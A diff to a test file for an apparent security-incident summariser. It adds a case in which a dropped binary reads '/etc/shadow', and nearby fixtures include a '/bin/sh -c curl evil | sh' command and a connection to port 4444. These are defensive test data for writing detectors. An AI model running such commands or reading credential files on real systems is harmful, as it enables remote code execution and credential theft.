@@ -40,6 +40,16 @@ describe('incidentSentence', () => {
       [callHome],
       '`nginx` of shop/cart started `/tmp/x` (not in the image), which connected to localhost:4444',
     ],
+    [
+      'what every program does is left out',
+      dropped,
+      [
+        told({ ...below('/tmp/x'), kind: 'load', path: '/lib/libc.so.6', origin: 'image' }),
+        told({ ...below('/tmp/x'), kind: 'open', path: '/etc/ld.so.cache', access: 'read' }),
+        told({ ...below('/tmp/x'), kind: 'open', path: '/etc/shadow', access: 'read' }),
+      ],
+      '`nginx` of shop/cart started `/tmp/x` (not in the image), which read `/etc/shadow`',
+    ],
     ['a shell', shell, [], '`nginx` of shop/cart started `/bin/sh -c curl evil | sh`'],
     [
       'a shell that starts more',
